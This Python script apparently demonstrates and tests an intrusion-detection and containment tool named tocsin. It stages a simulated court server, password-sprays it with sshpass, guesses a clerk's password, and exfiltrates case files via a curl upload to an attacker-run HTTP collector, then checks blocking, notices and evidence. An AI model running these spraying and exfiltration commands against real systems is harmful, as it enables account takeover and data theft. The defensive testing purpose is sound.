#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""One attack through every stage, live: a court, an attacker who guesses a password, and tocsin
between them. Each claim of the commentary is checked; the first that does not hold ends it.

usage: story.py --build BUILD-FOLDER [--folder FOLDER] [--quick]
"""
import argparse
import http.server
import json
import os
import pathlib
import shlex
import shutil
import subprocess
import sys
import textwrap
import time

import stage
from stage import ADMIN, ATTACKER, BYSTANDER, SPRAYERS, inside, run, wait_for

ROOT = pathlib.Path(__file__).resolve().parents[2]
COLLECTOR_PORT = 8080


class Failed(Exception):
    """A claim that did not hold."""


class Story:
    def __init__(self, options):
        self.options = options
        self.build = pathlib.Path(options.build).resolve()
        self.folder = pathlib.Path(options.folder).resolve()
        self.stage = stage.Stage(self.folder)
        self.colour = sys.stdout.isatty()
        self.out = self.folder / 'told'
        self.tocsind = None

    # -- telling ---------------------------------------------------------------------------

    def head(self, text):
        line = f'\n== {text} '
        print(f'\033[1m{line}\033[0m' if self.colour else line, flush=True)

    def say(self, text):
        print(textwrap.fill(textwrap.dedent(text).replace('\n', ' ').strip(), 96), flush=True)

    def show(self, *argv, lines=None, check=True):
        """Runs a tocsin command as a person would, and shows it."""
        print(f'\n  $ tocsin {shlex.join(argv)}', flush=True)
        text = self.tocsin(*argv, check=check)
        rows = text.rstrip('\n').split('\n')
        cut = rows if lines is None else rows[:lines]
        print('\n'.join('  ' + row for row in cut))
        if len(cut) < len(rows):
            print(f'  … {len(rows) - len(cut)} more lines')
        print(flush=True)
        return text

    def tocsin(self, *argv, check=True):
        done = subprocess.run([str(self.build / 'tocsin'), *argv], stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT, text=True, check=False)
        if check and done.returncode != 0:
            raise Failed(f'tocsin {" ".join(argv)}: status {done.returncode}\n{done.stdout}')
        return done.stdout

    def json(self, *argv):
        return json.loads(self.tocsin(*argv, '--json'))

    def claim(self, what, holds):
        mark = 'ok' if holds else 'FAILED'
        print(f'  [{mark}] {what}', flush=True)
        if not holds:
            raise Failed(what)

    # -- acting ----------------------------------------------------------------------------

    def configure(self, mode):
        folder = pathlib.Path('/etc/tocsin')
        folder.mkdir(exist_ok=True)
        for name in ('assets.csv', 'history.yml'):
            shutil.copy(ROOT / 'tools/story' / name, folder / name)
        journal = next(pathlib.Path('/var/log/journal').iterdir())
        (folder / 'tocsin.conf').write_text(textwrap.dedent(f'''\
            # The court of Aldermere
            [daemon]
            [ingest]
            file = sshd-auth /var/log/auth.log
            file = audit T3 /var/log/audit/audit.log
            journal = {journal}
            [ledger]
            origin = aldermere.example/tocsin
            [detect]
            rules = {ROOT}/rules
            [incident]
            assets = /etc/tocsin/assets.csv
            history = /etc/tocsin/history.yml
            playbooks = {ROOT}/playbooks
            [contain]
            mode = {mode}
            never = {ADMIN}/32
            never = account:root
            [inform]
            institution_en = the Court of Aldermere
            institution_fr = la Cour d’Aldermere
            contact = press@aldermere.example
            '''), encoding='utf-8')

    def start(self):
        # a failing role tells why in tocsind.out
        self.tocsind = self.stage.start('tocsind', str(self.build / 'tocsind'), '--foreground')
        wait_for(self.is_up, 'tocsind to answer', 30)

    def is_up(self):
        if self.tocsind.poll() is not None:
            raise Failed(f'tocsind ended: {(self.folder / "tocsind.out").read_text()[-2000:]}')
        done = subprocess.run([str(self.build / 'tocsin'), 'status', '--json'], check=False,
                              stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        return done.returncode == 0

    def stop(self):
        self.tocsind.terminate()
        self.tocsind.wait(timeout=20)

    def spray(self):
        """Every address tries a few names once: the weather."""
        names = ['admin', 'oracle', 'clerk', 'magistrate', 'test', 'postgres', 'guest', 'ubuntu']
        tries = [subprocess.Popen(
            inside('outside', 'sshpass', '-p', 'Winter2026!', 'ssh', '-F', '/dev/null', '-b', address,
                   '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null',
                   '-o', 'NumberOfPasswordPrompts=1', '-o', 'PreferredAuthentications=password',
                   f'{names[(i + k) % len(names)]}@{stage.COURT}'),
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            for i, address in enumerate(SPRAYERS) for k in range(3)]
        for attempt in tries:
            attempt.wait(timeout=60)

    def collector(self):
        """Where the attacker gathers files: a web server outside."""
        code = ('import http.server,pathlib,sys\n'
                'class H(http.server.BaseHTTPRequestHandler):\n'
                '  def do_PUT(self):\n'
                '    n=int(self.headers["Content-Length"]); d=self.rfile.read(n)\n'
                '    open(sys.argv[1],"ab").write(d); self.send_response(201); self.end_headers()\n'
                '  def log_message(self,*a): pass\n'
                f'http.server.ThreadingHTTPServer(("{ATTACKER}",{COLLECTOR_PORT}),H).serve_forever()\n')
        self.loot = self.folder / 'attackers-collection'
        self.loot.touch()
        self.stage.start('collector', '/usr/bin/python3', '-c', code, str(self.loot), host='outside')

    def break_in(self):
        for word in ('password', '123456', 'aldermere', 'court2026', 'Clerk1', 'registry'):
            self.stage.ssh('clerk', ATTACKER, 'true', password=word)
        script = ('id -un; find /srv/cases -type f -exec cat {} + >/tmp/.cache-1; '
                  f'curl -s -m 5 -T /tmp/.cache-1 http://{ATTACKER}:{COLLECTOR_PORT}/1; rm /tmp/.cache-1')
        status, text = self.stage.ssh('clerk', ATTACKER, script, password=stage.PASSWORDS['clerk'])
        return status == 0 and 'clerk' in text

    def incidents(self):
        return self.json('incident', 'list').get('incidents', [])

    def one_incident(self):
        found = wait_for(self.incidents, 'an incident', 15)
        return found[0]

    # -- the acts --------------------------------------------------------------------------

    def play(self):
        self.act_quiet()
        incident = self.act_shadow()
        self.act_contain(incident)
        self.act_tell(incident)
        self.act_prove(incident)
        self.act_undo()
        self.act_offline()
        self.close()

    def act_quiet(self):
        self.head('A court, and the weather')
        self.say(f'''A machine of the court, registry ({stage.COURT}), behind a router. sshd logs to
            /var/log/auth.log by way of rsyslog, and to the journal; auditd watches /srv/cases. A
            magistrate works from home ({BYSTANDER}), an administrator on the LAN ({ADMIN}). From the
            outside come, as every day, a few passwords from many addresses.''')
        self.stage.build()
        self.collector()
        self.configure('shadow')
        self.start()
        self.magistrate = self.stage.session('magistrate', BYSTANDER, key=self.stage.keys / 'magistrate')
        self.admin = self.stage.session('root', ADMIN, key=self.stage.keys / 'root', host='admin')
        self.spray()
        wait_for(lambda: self.json('status').get('raids'), 'the raid gauge', 15)
        self.show('status')
        self.claim('the spraying moves a gauge and is no incident', not self.incidents())

    def act_shadow(self):
        self.head('One of them guesses right')
        self.say(f'''{ATTACKER} tries passwords for the account clerk, and the seventh is right. It reads
            the case files and sends them to a server of its own. Containment is in shadow mode, as it
            is shipped: tocsin says what it would do, and does nothing.''')
        self.claim('the attacker is in, and the case files are out',
                   self.break_in() and 'Witness A' in self.loot.read_text())
        incident = self.one_incident()
        wait_for(lambda: len(self.json('actions').get('actions', [])) >= 3, 'three proposals', 15)
        self.show('incident', 'list')
        self.show('actions')
        self.claim('one incident, not seven', len(self.incidents()) == 1)
        return incident['id']

    def act_contain(self, incident):
        self.head('Containment is switched on')
        self.say('''An operator writes mode = enforce into tocsin.conf and starts tocsind anew; all that
            was known is folded from the ledger. The attacker comes back for more.''')
        self.stop()
        self.configure('enforce')
        self.start()
        intruder = self.stage.session('clerk', ATTACKER, password=stage.PASSWORDS['clerk'])
        cut = wait_for(lambda: any(a.get('outcome') == 'effective' for a in self.json('actions')['actions']),
                       'an effective action', 20)
        time.sleep(0.5)
        self.stage.ssh('clerk', ATTACKER, f'curl -m 2 -T /srv/cases/AC-2026-014/witness-list.txt '
                       f'http://{ATTACKER}:{COLLECTOR_PORT}/2', password=stage.PASSWORDS['clerk'], seconds=6)
        self.claim('the block is in the kernel', bool(cut))
        self.claim('the attacker hears nothing more in the session that was open', not intruder.alive(0.7))
        self.claim('nor gets a new one', self.stage.ssh('clerk', ATTACKER, 'true', seconds=6,
                                                        password=stage.PASSWORDS['clerk'])[0] != 0)
        before = self.loot.stat().st_size
        subprocess.run(['curl', '-s', '-m', '1', '-T', '/etc/hostname',
                        f'http://{ATTACKER}:{COLLECTOR_PORT}/3'], check=False)
        self.claim('nor can anything be sent to it from inside', self.loot.stat().st_size == before)
        self.claim('the magistrate works on', self.magistrate.alive())
        self.claim('so does the administrator', self.admin.alive())
        self.show('actions')
        self.suspended(incident)

    def suspended(self, _incident):
        def all_done():
            kinds = {a['kind'] for a in self.json('actions')['actions'] if a.get('outcome') == 'effective'}
            return {'block-address', 'end-session', 'suspend-account'} <= kinds
        wait_for(all_done, 'session and account', 15)
        status, _ = self.stage.ssh('clerk', BYSTANDER, 'true', password=stage.PASSWORDS['clerk'])
        self.claim('the account clerk is locked, with the right password, from anywhere', status != 0)

    def act_tell(self, incident):
        self.head('What is affected, and what is said')
        self.show('incident', 'show', self.incidents()[0]['name'])
        notices = self.out
        notices.mkdir(exist_ok=True)
        for audience, language in (('public', 'en'), ('public', 'fr'), ('members', 'en'), ('internal', 'en')):
            for extra, suffix in ((), 'md'), (('--html',), 'html'):
                self.tocsin('notice', 'draft', incident, '--for', audience, '--lang', language, *extra,
                            '-o', str(notices / f'{audience}.{language}.{suffix}'))
        print((notices / 'public.en.md').read_text(encoding='utf-8'))
        bad = notices / 'careless.md'
        good = (notices / 'public.en.md').read_text(encoding='utf-8')
        bad.write_text(good.replace('## Contact', f'The attack by APT29 came from {ATTACKER}. No data was '
                                    'accessed.\n\n## Contact'), encoding='utf-8')
        text = self.show('notice', 'lint', str(bad), '--for', 'public', '--allow', 'press@aldermere.example',
                         check=False)
        self.claim('a statement that names an actor and an address is refused',
                   ATTACKER in text and 'APT29' in text)

    def act_prove(self, incident):
        self.head('What can be proved to others')
        self.show('evidence', 'verify')
        finding = self.json('incident', 'show', incident)['findings'][0]['id']
        proof = self.out / 'proof'
        shutil.rmtree(proof, ignore_errors=True)
        self.show('evidence', 'prove', finding, '--output', str(proof))
        done = subprocess.run([sys.executable, str(ROOT / 'tools/evidence_check.py'), str(proof)],
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False)
        print(textwrap.indent(done.stdout, '  '))
        self.claim('a small script that shares no code with tocsin verifies the proof', done.returncode == 0)
        copy = self.folder / 'tampered'
        shutil.rmtree(copy, ignore_errors=True)
        shutil.copytree('/var/lib/tocsin/ledger', copy)
        victim = max((p for p in copy.glob('*.segment')), key=lambda p: p.stat().st_size)
        data = bytearray(victim.read_bytes())
        data[200] ^= 1
        victim.write_bytes(data)
        text = self.show('evidence', 'verify', str(copy), check=False)
        self.claim('one flipped bit in a copy of the ledger is found', 'DAMAGED' in text)

    def act_undo(self):
        self.head('Everything can be undone, and ends by itself')
        self.show('release', 'clerk')
        status, _ = wait_for(lambda: (lambda r: r if r[0] == 0 else None)(
            self.stage.ssh('clerk', BYSTANDER, 'true', password=stage.PASSWORDS['clerk'])), 'clerk to log on', 10)
        self.claim('clerk can log on again', status == 0)
        self.show('contain', SPRAYERS[0], '--for', '3s', '--reason', 'to see it end')
        ping = lambda: subprocess.call(inside('outside', 'ping', '-c1', '-W1', '-I', SPRAYERS[0], stage.COURT),
                                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) == 0
        self.claim('blocked for three seconds', not ping())
        self.claim('and then no more, by the kernel\'s clock', bool(wait_for(ping, 'the lease to end', 8)))

    def act_offline(self):
        self.head('The same logs, offline')
        self.say('''A responder who has only the files runs tocsin scan over them. Findings and incident have
            the same ids as live.''')
        argv = ['scan', '-r', f'{ROOT}/rules', '--playbooks', f'{ROOT}/playbooks', '--assets',
                '/etc/tocsin/assets.csv', '--history', '/etc/tocsin/history.yml',
                '/var/log/auth.log', '/var/log/audit/audit.log']
        done = subprocess.run([str(self.build / 'tocsin'), *argv, '--output', 'jsonl', '--quiet'],
                              stdout=subprocess.PIPE, text=True, check=True)
        lines = [json.loads(line) for line in done.stdout.splitlines()]
        scanned = {line['id'] for line in lines if 'incident' not in line}
        incidents = {line['incident']['id'] for line in lines if 'incident' in line}
        live = [self.json('incident', 'show', i['id']) for i in self.incidents()]
        findings = {f['id'] for i in live for f in i['findings']}
        print(f'  {len(findings)} findings in the live incident, {len(findings & scanned)} of them with '
              f'the same id in the scan', flush=True)
        self.claim('tocsin scan gives the same findings with the same ids', findings <= scanned)
        self.claim('and the same incident', {i['id'] for i in live} == incidents)

    def close(self):
        self.stop()
        self.head('Where everything lies')
        for what, where in (('ledger', self.folder / 'state/ledger'), ('notices, proof', self.out),
                            ('logs', self.folder / 'log'), ('what the processes said', self.folder / 'tocsind.out')):
            print(f'  {what:26}{os.path.relpath(where, ROOT)}')
        print(flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    parser.add_argument('--build', default=str(ROOT / 'build'))
    parser.add_argument('--folder', default=str(ROOT / 'build/story'))
    options = parser.parse_args()
    if os.geteuid() != 0:
        print('story.py: namespaces, sshd and auditd need root')
        return 77
    if stage.missing():
        print(f'story.py: missing packages: {" ".join(stage.missing())}; ./dev deps demo installs them')
        return 77
    folder = pathlib.Path(options.folder)
    if os.environ.get('TOCSIN_STAGE') is None:
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir(parents=True)
    if os.environ.get('TOCSIN_STAGE') != 'inner':
        return stage.enter(folder, [os.path.abspath(__file__), *sys.argv[1:]])
    story = Story(options)
    try:
        story.play()
        return 0
    except (Failed, RuntimeError, subprocess.SubprocessError) as problem:
        print(f'\nstory.py: {problem}', file=sys.stderr)
        for words in (['actions'], ['incident', 'list']):
            print(story.tocsin(*words, check=False), file=sys.stderr)
        print(f'tocsind said last:\n{run("tail", "-n", "15", str(folder / "tocsind.out"), check=False)}', file=sys.stderr)
        return 1
    finally:
        story.stage.end()


if __name__ == '__main__':
    sys.exit(main())
